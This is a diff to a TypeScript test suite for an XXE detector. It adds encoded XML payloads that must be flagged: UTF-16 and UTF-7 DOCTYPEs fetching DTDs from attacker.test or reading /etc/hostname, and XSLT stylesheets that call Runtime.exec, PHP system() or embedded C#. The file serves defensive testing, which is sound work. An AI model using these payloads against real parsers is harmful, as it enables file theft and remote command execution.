@@ -41,7 +41,28 @@ const positives: string[] = [
   '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></doc>',
   '<xi:include href="/etc/passwd" parse="text"/>',
   '<r xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href="secret.txt"/></r>',
+  // UTF-16 read byte by byte (a NUL after every ASCII character), little- and big-endian.
+  utf16('<!DOCTYPE r SYSTEM "http://attacker.test/x.dtd"><r/>'),
+  '\ufffd\ufffd' + utf16('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'),
+  '\u0000' + utf16('<!ENTITY % p SYSTEM "http://attacker.test/">'),
+  // UTF-7, as the XML declaration announces it.
+  '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r+AFs-+ADw-!ENTITY x SYSTEM +ACI-http://attacker.test/x+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x+ADs-+ADw-/r+AD4-',
+  "<?xml version='1.0' encoding='utf-7' ?>+ADwAIQ-DOCTYPE r SYSTEM +ACI-http://attacker.test/x.dtd+ACI-+AD4-",
+  '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQBEAE8AQwBUAFkAUABFACAAcgAgAFMAWQBTAFQARQBNACAAIgBoAHQAdABwADoALwAvAGUALwB4ACIAPg-',
+  // XSLT extension namespaces bound to code.
+  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:value-of select="rt:exec(rt:getRuntime(),\'id\')"/></xsl:stylesheet>',
+  '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="java:java.lang.Runtime"/>',
+  "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:x = 'xalan://java.lang.Runtime'/>",
+  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:stylesheet>',
+  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u"><m:script language="C#" implements-prefix="u">public string x(){return "";}</m:script></xsl:stylesheet>',
 ];
+
+/** `s` as UTF-16LE bytes read one byte per character (what a UTF-16 body looks like read as UTF-8). */
+function utf16(s: string): string {
+  let out = '';
+  for (const ch of s) out += ch + '\u0000';
+  return out;
+}
 
 /** Each must NOT be detected at `high`. */
 const negatives: string[] = [
@@ -68,6 +89,13 @@ const negatives: string[] = [
   '<svg xmlns="http://www.w3.org/2000/svg"><text>&#169; 2024</text></svg>',
   "O'Brien",
   'https://example.com/path?x=1',
+  // UTF-7 and UTF-16 documents without a DTD; stylesheets with ordinary extension namespaces.
+  '<?xml version="1.0" encoding="UTF-7"?><note>Hi +AGE- there, 1 +- 1</note>',
+  '<?xml version="1.0" encoding="UTF-16"?><a/>',
+  utf16('<a>hi</a>'),
+  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" exclude-result-prefixes="msxsl"><xsl:copy-of select="msxsl:node-set($x)"/></xsl:stylesheet>',
+  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exsl="http://exslt.org/common"/>',
+  '<project xmlns:java="http://www.example.com/java" xmlns:j="javascript-docs"/>',
 ];
 
 t.test('XXE vectors are detected at high confidence', async (t) => {
@@ -132,6 +160,10 @@ t.test('adversarial 1 MB inputs return without throwing', async (t) => {
     quotes: '<!DOCTYPE a SYSTEM "' + '"'.repeat(MB),
     amps: '<!DOCTYPE a SYSTEM "http://x/y">' + '&'.repeat(MB),
     surrogates: '<!DOCTYPE a [' + '\ud800'.repeat(MB),
+    utf7: '<?xml encoding="utf-7"?>' + '+ADw-+ACE-'.repeat(MB / 10),
+    utf7Long: '<?xml encoding="utf-7"?>+' + 'A'.repeat(MB),
+    nuls: '<\u0000'.repeat(MB / 2),
+    xmlns: 'xmlns:a="urn:schemas-microsoft-com:xslt" '.repeat(MB / 42),
   };
   for (const [name, v] of Object.entries(big)) {
     t.doesNotThrow(() => detectXxe(v), name);
